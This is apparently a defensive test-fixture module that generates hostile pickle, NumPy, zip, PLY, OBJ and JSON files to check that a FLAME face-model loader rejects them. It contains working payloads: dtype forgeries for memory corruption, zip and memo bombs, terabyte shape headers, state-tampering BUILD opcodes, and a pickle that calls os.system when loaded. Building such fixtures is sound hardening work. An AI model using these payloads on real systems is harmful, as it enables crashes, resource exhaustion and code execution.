"""Hostile FLAME files, written as an attacker who has read the readers would write them.

Each builder returns ``(reader, file name, bytes)``; ``reader`` is a key of
``hostile_runner.READERS``. They are grouped by the class of attack the issue lists: memory
corruption, resource bombs, undocumented exceptions, state tampering.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
from io_fakes import Call, FakeCh, FakeCsc, Global, dumps, legacy_storage_stream

NDARRAY = Global("numpy", "ndarray")
RECONSTRUCT = Global("numpy.core.multiarray", "_reconstruct")


def _dtype(code: str, state: tuple) -> Call:
    return Call(Global("numpy", "dtype"), code, False, True, state=state)


PLAIN_STATE = (3, "<", None, None, None, -1, -1, 0)
OBJECT_DTYPE = _dtype("O8", (3, "|", None, None, None, -1, -1, 63))


def _array(dtype: Call, shape: tuple, data: bytes | list) -> Call:
    return Call(RECONSTRUCT, NDARRAY, (0,), b"b", state=(1, shape, dtype, False, data))


def _npy(header: str, body: bytes = b"", version: int = 1) -> bytes:
    text = header.encode("latin1")
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    head = struct.pack("<H", len(text)) if version == 1 else struct.pack("<I", len(text))
    return b"\x93NUMPY" + bytes([version, 0]) + head + text + body


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _masks_bytes(flame_dir: Path) -> bytes:
    return (flame_dir / "FLAME_masks.pkl").read_bytes()


# --- memory corruption: bytes that would become pointers or out-of-bounds reads ---------------


def structured_dtype_hidden_object(_: Path) -> tuple[str, str, bytes]:
    fields = {"a": (OBJECT_DTYPE, 0), "b": (_dtype("f8", PLAIN_STATE), 8)}
    dtype = _dtype("V16", (3, "|", None, ("a", "b"), fields, 16, 1, 63))
    return "model", "generic_model.pkl", dumps({"v_template": _array(dtype, (1,), b"A" * 16)})


def field_at_huge_offset(_: Path) -> tuple[str, str, bytes]:
    fields = {"a": (_dtype("f8", PLAIN_STATE), 1 << 40)}
    dtype = _dtype("V8", (3, "|", None, ("a",), fields, 8, 1, 16))
    return "pickle", "x.pkl", dumps({"a": _array(dtype, (1,), b"A" * 8)})


def reconstruct_object_array_from_bytes(_: Path) -> tuple[str, str, bytes]:
    return "pickle", "x.pkl", dumps([_array(OBJECT_DTYPE, (2,), b"\x41" * 16)])


def ndarray_call_with_buffer(_: Path) -> tuple[str, str, bytes]:
    forged = Call(NDARRAY, (4,), OBJECT_DTYPE, b"\x10" * 32)
    return "pickle", "x.pkl", dumps({"v": forged})


def frombuffer_object_dtype(_: Path) -> tuple[str, str, bytes]:
    forged = Call(Global("numpy._core.numeric", "_frombuffer"), b"\x10" * 8, OBJECT_DTYPE, (1,), "C")
    return "pickle", "x.pkl", dumps(forged, protocol=3, py2=False)


def scalar_item_object_dtype(_: Path) -> tuple[str, str, bytes]:
    forged = Call(Global("numpy.core.multiarray", "scalar"), OBJECT_DTYPE, b"\x10" * 8)
    return "pickle", "x.pkl", dumps({"x": forged})


def one_byte_dtype_code_in_masks(flame_dir: Path) -> tuple[str, str, bytes]:
    data = _masks_bytes(flame_dir)
    at = data.index(b"S'i8'") + 2  # 'i8' -> 'O8': the index bytes would become pointers
    return "masks", "FLAME_masks.pkl", data[:at] + b"O" + data[at + 1 :]


def one_byte_dtype_flags_in_masks(flame_dir: Path) -> tuple[str, str, bytes]:
    data = _masks_bytes(flame_dir)
    at = data.index(b"NNNI-1\nI-1\nI0\n") + len(b"NNNI-1\nI-1\nI")
    return "masks", "FLAME_masks.pkl", data[:at] + b"1" + data[at + 1 :]  # NPY_ITEM_REFCOUNT


def legacy_tensor_reads_past_storage(_: Path) -> tuple[str, str, bytes]:
    storage = Call(Global("torch.storage", "_load_from_bytes"),
                   legacy_storage_stream(np.arange(4, dtype=np.int64)))  # fmt: skip
    tensor = Call(Global("torch._utils", "_rebuild_tensor_v2"), storage, 3, (4,), (1 << 40,),
                  False, {})  # fmt: skip
    return "pickle", "x.pkl", dumps(tensor, protocol=3, py2=False)


# --- resource bombs -------------------------------------------------------------------------


def memo_bomb(_: Path) -> tuple[str, str, bytes]:
    return "pickle", "x.pkl", b"\x80\x02N" + b"r" + struct.pack("<I", 1 << 28) + b"."


def text_memo_bomb(_: Path) -> tuple[str, str, bytes]:
    return "masks", "FLAME_masks.pkl", b"(dp0\nS'a'\np99999999999\nI1\ns."


def binbytes8_length_bomb(_: Path) -> tuple[str, str, bytes]:
    return "pickle", "x.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"abc."


def stride_zero_tensor_bomb(_: Path) -> tuple[str, str, bytes]:
    storage = Call(Global("torch.storage", "_load_from_bytes"),
                   legacy_storage_stream(np.arange(1, dtype=np.int64)))  # fmt: skip
    tensor = Call(Global("torch._utils", "_rebuild_tensor_v2"), storage, 0, (10**12,), (0,),
                  False, {})  # fmt: skip
    return "pickle", "x.pkl", dumps({"dynamic": tensor}, protocol=3, py2=False)


def array_shape_bomb(_: Path) -> tuple[str, str, bytes]:
    array = _array(_dtype("f8", PLAIN_STATE), (10**6, 10**6), b"\0" * 8)
    return "model", "generic_model.pkl", dumps({"shapedirs": FakeCh(array)})


def sparse_shape_bomb(_: Path) -> tuple[str, str, bytes]:
    """A 2x2 sparse matrix claiming 10**12 cells: made dense it would need 8 TB."""
    csc = FakeCsc(np.eye(2))
    csc.state["_shape"] = (10**6, 10**6)
    return "masks", "FLAME_masks.pkl", dumps({"lips": csc})


def list_amplification(_: Path) -> tuple[str, str, bytes]:
    row = np.zeros(17, dtype=np.uint32)
    holder = np.empty((), dtype=object)
    holder[()] = {"lmk_face_idx": [row] * 200_000, "lmk_b_coords": [np.zeros((17, 3))] * 2}
    stream = io.BytesIO()
    np.save(stream, holder, allow_pickle=True)  # one row, memoised, referenced 200,000 times
    return "dynamic", "flame_dynamic_embedding.npy", stream.getvalue()


def nested_tuple_dict_key(_: Path) -> tuple[str, str, bytes]:
    return "pickle", "x.pkl", b"\x80\x02}" + b")" + b"\x85" * 1_000_000 + b"Ns."


def nested_lists(_: Path) -> tuple[str, str, bytes]:
    return "pickle", "x.pkl", b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."


def npy_header_promises_terabytes(_: Path) -> tuple[str, str, bytes]:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000), }"
    return "npy", "flame_dynamic_embedding.npy", _npy(header, b"\0" * 64)


def npz_member_promises_terabytes(_: Path) -> tuple[str, str, bytes]:
    header = "{'descr': '<u4', 'fortran_order': False, 'shape': (1000000000000,), }"
    member = _npy(header, b"\0" * 64)
    return "mediapipe", "mediapipe_landmark_embedding.npz", _zip({"lmk_face_idx.npy": member})


def zip_bomb(_: Path, size: int = 2 << 30) -> tuple[str, str, bytes]:
    """A 2 MB archive whose member inflates to 2 GB of zeros (a valid .npy header first)."""
    header = f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({size},), }}"
    head = _npy(header)
    # After a full flush deflate forgets its history, so one compressed 64 MB block of zeros
    # can be repeated: the archive is built in a second, not by deflating 2 GB.
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(64 << 20)
    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    raw = first + block * (size // len(chunk)) + compressor.flush()
    crc = zlib.crc32(head)
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    name = b"tex_dir.npy"
    total = len(head) + size
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(raw), total,
                        len(name), 0)  # fmt: skip
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(raw), total,
                          len(name), 0, 0, 0, 0, 0, 0)  # fmt: skip
    offset = len(local) + len(name) + len(raw)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(name), offset, 0)
    return "texture", "FLAME_texture.npz", local + name + raw + central + name + end


def zip_bomb_under_size_limit(_: Path) -> tuple[str, str, bytes]:
    """256 MB from 260 KB: under the size limit, refused for its compression ratio."""
    return zip_bomb(_, 256 << 20)


def ply_promises_billions(_: Path) -> tuple[str, str, bytes]:
    header = ("ply\nformat binary_little_endian 1.0\nelement vertex 4000000000\n"
              "property float x\nproperty float y\nproperty float z\nelement face 1\n"
              "property list uchar int vertex_indices\nend_header\n")  # fmt: skip
    return "ply", "template.ply", header.encode() + b"\0" * 64


# --- undocumented exceptions ----------------------------------------------------------------


def npy_corrupt_dtype_string(_: Path) -> tuple[str, str, bytes]:
    return "npy", "x.npy", _npy("{'descr': '<f8\\x00(', 'fortran_order': False, 'shape': (2,), }")


def npy_nested_parentheses(_: Path) -> tuple[str, str, bytes]:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': " + "(" * 3000 + ")" * 3000 + "}"
    return "npy", "x.npy", _npy(header)


def npy_unterminated_header(_: Path) -> tuple[str, str, bytes]:
    return "npy", "x.npy", _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2,")


def npz_unknown_compression(_: Path) -> tuple[str, str, bytes]:
    data = bytearray(_zip({"vt.npy": _npy("{'descr': '<f8', 'fortran_order': False, "
                                          "'shape': (1,), }", b"\0" * 8)}))  # fmt: skip
    for signature, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        position = data.index(signature) + at
        data[position : position + 2] = struct.pack("<H", 99)
    return "npz", "x.npz", bytes(data)


def npz_future_zip_version(_: Path) -> tuple[str, str, bytes]:
    data = bytearray(_zip({"vt.npy": _npy("{'descr': '<f8', 'fortran_order': False, "
                                          "'shape': (1,), }", b"\0" * 8)}))  # fmt: skip
    position = data.index(b"PK\x01\x02") + 6
    data[position : position + 2] = struct.pack("<H", 99)  # version needed to extract: 9.9
    return "npz", "x.npz", bytes(data)


def npz_encrypted_member(_: Path) -> tuple[str, str, bytes]:
    data = bytearray(_zip({"vt.npy": _npy("{'descr': '<f8', 'fortran_order': False, "
                                          "'shape': (1,), }", b"\0" * 8)}))  # fmt: skip
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = data.index(signature) + at
        data[position] |= 1
    return "npz", "x.npz", bytes(data)


def pickle_huge_text_integer(_: Path) -> tuple[str, str, bytes]:
    return "masks", "FLAME_masks.pkl", b"(dp0\nS'a'\nL" + b"9" * 100_000 + b"L\ns."


def ply_big_endian(_: Path) -> tuple[str, str, bytes]:
    return "ply", "m.ply", b"ply\nformat binary_big_endian 1.0\nelement vertex 0\nend_header\n"


def obj_bad_index(_: Path) -> tuple[str, str, bytes]:
    return "obj", "head_template.obj", b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 " + b"9" * 5000 + b"\n"


# --- state tampering ------------------------------------------------------------------------


def _build_on_global(module: str, name: str) -> bytes:
    state = (None, {"__defaults__": (1, 2), "__qualname__": "owned", "name": "owned",
                    "make": None, "dtype": "O8"})  # fmt: skip
    body = pickle.dumps(state, protocol=2)[2:-1]  # the state without PROTO/STOP
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + body + b"b."


def build_on_allowed_function(_: Path) -> tuple[str, str, bytes]:
    return "pickle", "x.pkl", _build_on_global("numpy.core.multiarray", "_reconstruct")


def build_on_allowed_class(_: Path) -> tuple[str, str, bytes]:
    return "pickle", "x.pkl", _build_on_global("chumpy.ch", "Ch")


def build_on_marker(_: Path) -> tuple[str, str, bytes]:
    return "pickle", "x.pkl", _build_on_global("numpy", "ndarray")


def build_twice_on_one_record(_: Path) -> tuple[str, str, bytes]:
    first = FakeCh(np.zeros(3))
    data = dumps({"a": first})
    state = pickle.dumps({"x": 5}, protocol=2)[2:-1]
    return "pickle", "x.pkl", data[:-2] + b"h\x03" + state + b"b0s."  # BUILD again via memo


# --- parameter files (the panel's Load button, the batch renderer's --params) ------------------
# Written the way a user's script writes them (np.savez, json.dumps), then made hostile.


def _params_npz(**arrays: np.ndarray) -> bytes:
    stream = io.BytesIO()
    np.savez(stream, **arrays)
    return stream.getvalue()


def parameters_npz_pickled_member(_: Path) -> tuple[str, str, bytes]:
    """A member that is an object array whose pickle runs ``os.system`` when unpickled."""
    body = dumps(Call(Global("os", "system"), "touch pwned"), py2=False)
    member = _npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", body)
    return "parameters", "head.npz", _zip({"shape.npy": member})


def parameters_npz_promises_terabytes(_: Path) -> tuple[str, str, bytes]:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
    return "parameters", "head.npz", _zip({"jaw_pose.npy": _npy(header, b"\0" * 24)})


def parameters_npz_zip_bomb(flame_dir: Path) -> tuple[str, str, bytes]:
    _, _, data = zip_bomb(flame_dir)
    return "parameter sequence", "sequence.npz", data.replace(b"tex_dir.npy", b"shape01.npy")


def parameters_npz_corrupt_header(_: Path) -> tuple[str, str, bytes]:
    member = _npy("{'descr': '<f8\\x00(', 'fortran_order': False, 'shape': (3,), }", b"\0" * 24)
    return "parameters", "head.npz", _zip({"jaw_pose.npy": member})


def parameter_sequence_of_empty_samples(_: Path) -> tuple[str, str, bytes]:
    """A billion samples of no values: zero bytes of data, a billion parameter sets to make."""
    return "parameter sequence", "sequence.npz", _params_npz(shape=np.zeros((10**9, 0)))


def parameter_sequence_json_of_many_sets(_: Path) -> tuple[str, str, bytes]:
    return "parameter sequence", "sequence.json", b"[" + b"{}," * 20_000 + b"{}]"


def parameters_json_deep_nesting(_: Path) -> tuple[str, str, bytes]:
    return "parameters", "head.json", b'{"shape": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def parameters_json_huge_integer(_: Path) -> tuple[str, str, bytes]:
    return "parameters", "head.json", b'{"shape": [' + b"9" * 50_000 + b"]}"


def parameter_sequence_jsonl_deep_nesting(_: Path) -> tuple[str, str, bytes]:
    line = b'{"jaw_pose": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    return "parameter sequence", "sequence.jsonl", b'{"jaw_pose": [0, 0, 0]}\n' + line + b"\n"


PARAMETER_FILES = (
    parameters_npz_pickled_member, parameters_npz_promises_terabytes, parameters_npz_zip_bomb,
    parameters_npz_corrupt_header, parameter_sequence_of_empty_samples,
    parameter_sequence_json_of_many_sets, parameters_json_deep_nesting,
    parameters_json_huge_integer, parameter_sequence_jsonl_deep_nesting,
)


HOSTILE: dict[str, dict[str, Callable[[Path], tuple[str, str, bytes]]]] = {
    "memory corruption": {
        f.__name__: f for f in (
            structured_dtype_hidden_object, field_at_huge_offset,
            reconstruct_object_array_from_bytes, ndarray_call_with_buffer,
            frombuffer_object_dtype, scalar_item_object_dtype, one_byte_dtype_code_in_masks,
            one_byte_dtype_flags_in_masks, legacy_tensor_reads_past_storage,
        )
    },
    "resource bomb": {
        f.__name__: f for f in (
            memo_bomb, text_memo_bomb, binbytes8_length_bomb, stride_zero_tensor_bomb,
            array_shape_bomb, sparse_shape_bomb, list_amplification, nested_tuple_dict_key,
            nested_lists, npy_header_promises_terabytes, npz_member_promises_terabytes,
            zip_bomb, zip_bomb_under_size_limit, ply_promises_billions,
        )
    },
    "undocumented exception": {
        f.__name__: f for f in (
            npy_corrupt_dtype_string, npy_nested_parentheses, npy_unterminated_header,
            npz_unknown_compression, npz_future_zip_version, npz_encrypted_member,
            pickle_huge_text_integer, ply_big_endian, obj_bad_index,
        )
    },
    "state tampering": {
        f.__name__: f for f in (
            build_on_allowed_function, build_on_allowed_class, build_on_marker,
            build_twice_on_one_record,
        )
    },
}  # fmt: skip
HOSTILE["parameter files"] = {f.__name__: f for f in PARAMETER_FILES}
